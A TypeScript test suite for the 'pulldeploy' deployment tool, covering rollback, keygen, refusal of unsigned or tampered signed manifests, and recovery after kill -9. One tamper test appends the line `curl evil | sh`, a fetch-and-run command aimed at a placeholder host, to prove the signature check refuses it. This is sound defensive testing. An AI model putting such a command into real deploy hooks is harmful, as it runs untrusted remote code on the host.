/**
 * Releases, rollback, signed manifests and crash safety, through the compiled binary.
 */
import { describe, expect, test } from "bun:test";
import * as fs from "node:fs";
import { join } from "node:path";
import { loadPrivateKey, signBytes } from "../../src/signature.ts";
import { appRelease, BINARY, httpServer, listTree, run, tempDir, waitFor } from "../support/helpers.ts";

const APP = (v: string) => ({ VERSION: v, "lib/a.js": `a ${v}`, "lib/b.js": `b ${v}` });
const EXPECTED_TREE = ["VERSION", "lib/", "lib/a.js", "lib/b.js"];

/** Serve a store dir over HTTP, with a request log and an optional slow archive. */
function serveStore(store: string, opts: { slowArchive?: boolean } = {}) {
  return httpServer((req) => {
    const path = join(store, new URL(req.url).pathname);
    if (!fs.existsSync(path)) return new Response("missing", { status: 404 });
    const bytes = fs.readFileSync(path);
    if (opts.slowArchive && path.endsWith(".tar.gz")) {
      let off = 0;
      return new Response(
        new ReadableStream({
          async pull(c) {
            if (off >= bytes.length) return c.close();
            c.enqueue(bytes.subarray(off, off + 64));
            off += 64;
            await Bun.sleep(20);
          },
        }),
      );
    }
    return new Response(bytes);
  });
}

function releaseIn(store: string, dest: string, id: string, version: string, srcBase: string, extra = "") {
  fs.mkdirSync(join(store, id), { recursive: true });
  return appRelease(
    join(store, id),
    APP(version),
    (a) =>
      `src: ${srcBase}/${id}/app.tar.gz\nchecksum: ${a.sha256}\ndest: ${dest}\nsync_strategy: ` +
      `release\nrelease_id: ${id}\n${extra}`,
  );
}

describe("pulldeploy rollback and keygen", () => {
  test("rollback --dest switches to the previous release with no download, --to picks one, --list shows them", async () => {
    await using d = tempDir();
    const dest = join(d.path, "app");
    await using srv = serveStore(join(d.path, "store"));
    for (const v of ["1", "2", "3"]) {
      const rel = releaseIn(join(d.path, "store"), dest, `r${v}`, v, srv.url);
      expect((await run(["agent", "--manifest", `${srv.url}/r${v}/app.yml`])).code).toBe(0);
      expect(rel.sha256).toHaveLength(64);
    }
    const before = srv.requests.length;
    const back = await run(["rollback", "--dest", dest]);
    expect(back.code).toBe(0);
    expect(back.stderr).toMatch(/rollback: current -> releases\/r2 \(was r3\) in 0\.0\d\ds/);
    expect(fs.readFileSync(join(dest, "current/VERSION"), "utf8")).toBe("2");
    expect((await run(["rollback", "--dest", dest, "--list"])).stdout).toBe("  r3\n  r1\n* r2\n");
    expect((await run(["rollback", "--dest", dest, "--to", "r1"])).code).toBe(0);
    expect(fs.readFileSync(join(dest, "current/VERSION"), "utf8")).toBe("1");
    const missing = await run(["rollback", "--dest", dest, "--to", "r9"]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('--to: no release "r9"');
    expect(srv.requests.length).toBe(before);
  });

  test("rollback without --dest, and in a dest without releases, say what to fix", async () => {
    await using d = tempDir();
    expect((await run(["rollback"])).stderr).toContain("--dest DIR (this host) or --role ROLE (the fleet) is required");
    const r = await run(["rollback", "--dest", d.path]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("no releases in");
  });

  test("keygen writes a private key (0600) and a public key, and never overwrites them", async () => {
    await using d = tempDir();
    const key = join(d.path, "k");
    expect((await run(["keygen", "--out", key])).code).toBe(0);
    expect(fs.statSync(key).mode & 0o777).toBe(0o600);
    expect(fs.readFileSync(`${key}.pub`, "utf8")).toStartWith("-----BEGIN PUBLIC KEY-----");
    const again = await run(["keygen", "--out", key]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain("exists; keys are never overwritten");
  });
});

describe("signed manifests (agent --trust-key)", () => {
  async function setup(d: string) {
    for (const k of ["old", "new", "other"]) expect((await run(["keygen", "--out", join(d, k)])).code).toBe(0);
    const store = join(d, "store");
    const srv = serveStore(store);
    const rel = releaseIn(store, join(d, "app"), "r1", "1", srv.url, `commands:\n  pre: ["touch ${d}/pre-ran"]\n`);
    const sign = (key: string, bytes = fs.readFileSync(rel.manifestPath)) =>
      fs.writeFileSync(`${rel.manifestPath}.sig`, signBytes(bytes, loadPrivateKey(join(d, key))));
    return { srv, rel, sign, url: `${srv.url}/r1/app.yml` };
  }
  const archiveFetched = (srv: { requests: { path: string }[] }) =>
    srv.requests.some((r) => r.path.endsWith(".tar.gz"));

  test("unsigned: refused before anything is downloaded or run", async () => {
    await using d = tempDir();
    const s = await setup(d.path);
    await using _srv = s.srv;
    const r = await run(["agent", "--trust-key", join(d.path, "new.pub"), "--manifest", s.url]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`deploy failed in phase signature: manifest is not signed (${s.url}.sig: not found)`);
    expect(archiveFetched(s.srv)).toBe(false);
    expect(fs.existsSync(join(d.path, "pre-ran"))).toBe(false);
  });

  test("signed with a key that is not trusted: refused", async () => {
    await using d = tempDir();
    const s = await setup(d.path);
    await using _srv = s.srv;
    s.sign("other");
    const r = await run(["agent", "--trust-key", join(d.path, "new.pub"), "--manifest", s.url]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("deploy failed in phase signature: bad signature:");
    expect(archiveFetched(s.srv)).toBe(false);
  });

  test("a tampered manifest: refused", async () => {
    await using d = tempDir();
    const s = await setup(d.path);
    await using _srv = s.srv;
    s.sign("new");
    fs.appendFileSync(s.rel.manifestPath, `  post: ["curl evil | sh"]\n`);
    const r = await run(["agent", "--trust-key", join(d.path, "new.pub"), "--manifest", s.url]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("bad signature");
    expect(fs.existsSync(join(d.path, "pre-ran"))).toBe(false);
  });

  test("a tampered archive under a good signature: the signed checksum refuses it", async () => {
    await using d = tempDir();
    const s = await setup(d.path);
    await using _srv = s.srv;
    s.sign("new");
    fs.appendFileSync(s.rel.archive, "tampered");
    const r = await run(["agent", "--trust-key", join(d.path, "new.pub"), "--manifest", s.url]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("signature: ok");
    expect(r.stderr).toContain("deploy failed in phase checksum: checksum mismatch");
    expect(fs.existsSync(join(d.path, "app/current"))).toBe(false);
  });

  test("rotated keys: both trusted (repeated flag), a manifest signed by either deploys", async () => {
    await using d = tempDir();
    const s = await setup(d.path);
    await using _srv = s.srv;
    for (const key of ["old", "new"]) {
      s.sign(key);
      const r = await run([
        "agent",
        "--trust-key",
        join(d.path, "old.pub"),
        "--trust-key",
        join(d.path, "new.pub"),
        "--manifest",
        s.url,
      ]);
      expect(r.code).toBe(0);
      expect(r.stderr).toContain("signature: ok");
    }
    // Comma-separated works too, and a private key file is accepted as a trust key (its public half).
    const r = await run([
      "agent",
      `--trust-key=${join(d.path, "old")},${join(d.path, "new.pub")}`,
      "--manifest",
      s.url,
    ]);
    expect(r.code).toBe(0);
  });

  test("a trust key that isn't a key: usage error", async () => {
    await using d = tempDir();
    fs.writeFileSync(join(d.path, "junk.pub"), "not a key");
    const r = await run(["agent", "--trust-key", join(d.path, "junk.pub"), "--manifest", "file:///x.yml"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("not a PEM key file (make one with pulldeploy keygen)");
  });
});

describe("crash safety: kill -9 in each phase, then a clean run", () => {
  const phases: [string, string, (d: string) => boolean][] = [
    ["fetch", "", (d) => fs.readdirSync(join(d, "app/releases")).some((n) => n.startsWith(".partial-"))],
    [
      "pre",
      'commands:\n  pre: ["echo $$ > $PULLDEPLOY_DEST/../hook.pid; touch $PULLDEPLOY_DEST/../in-pre; exec sleep 30"]\n',
      (d) => fs.existsSync(join(d, "in-pre")),
    ],
    [
      "post",
      'commands:\n  post: ["echo $$ > $PULLDEPLOY_DEST/../hook.pid; touch $PULLDEPLOY_DEST/../in-post; exec ' +
        'sleep 30"]\n',
      (d) => fs.existsSync(join(d, "in-post")),
    ],
  ];
  test.each(phases)("kill -9 during %s", async (phase, hooks, reached) => {
    await using d = tempDir();
    const dest = join(d.path, "app");
    const store = join(d.path, "store");
    await using fast = serveStore(store);
    await using slow = serveStore(store, { slowArchive: true });
    releaseIn(store, dest, "r1", "1", fast.url);
    expect((await run(["agent", "--manifest", `${fast.url}/r1/app.yml`])).code).toBe(0);
    releaseIn(store, dest, "r2", "2", phase === "fetch" ? slow.url : fast.url, hooks);
    const proc = Bun.spawn([BINARY, "agent", "--manifest", `${fast.url}/r2/app.yml`], {
      stderr: "ignore",
      env: { PATH: process.env.PATH!, PULLDEPLOY_STATE_DIR: join(d.path, "state") },
    });
    await waitFor(() => reached(d.path), `the agent to reach ${phase}`);
    proc.kill("SIGKILL");
    await proc.exited;
    // The dead agent's hook (its own process group) by its pid: never by name, other runs may share the machine.
    const hookPid = join(d.path, "hook.pid");
    if (fs.existsSync(hookPid)) {
      try {
        process.kill(-Number(fs.readFileSync(hookPid, "utf8")), "SIGKILL");
      } catch {}
    }
    // current is on a complete release whatever the moment of death.
    const current = fs.readlinkSync(join(dest, "current"));
    expect(listTree(join(dest, current))).toEqual(EXPECTED_TREE);
    // A clean run removes what the dead one left and deploys.
    fs.writeFileSync(
      join(store, "r2/app.yml"),
      fs
        .readFileSync(join(store, "r2/app.yml"), "utf8")
        .replace(/commands:[\s\S]*$/, "")
        .replace(slow.url, fast.url),
    );
    const again = await run(["agent", "--manifest", `${fast.url}/r2/app.yml`]);
    expect(again.code).toBe(0);
    if (phase !== "post") expect(again.stderr).toContain("left by an interrupted run");
    expect(fs.readlinkSync(join(dest, "current"))).toBe("releases/r2");
    expect(listTree(join(dest, "current/"))).toEqual(EXPECTED_TREE);
    expect(fs.readdirSync(join(dest, "releases")).filter((n) => n.startsWith("."))).toEqual([".order"]);
  });
});
